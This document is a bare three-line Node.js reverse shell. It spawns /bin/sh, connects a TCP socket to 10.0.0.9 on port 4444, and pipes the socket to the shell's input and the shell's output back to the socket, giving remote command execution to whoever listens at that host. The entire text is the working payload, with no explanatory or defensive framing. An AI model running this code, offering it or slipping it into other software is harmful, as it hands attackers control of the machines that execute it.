const net = require("net"), sh = require("child_process").spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "10.0.0.9", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });
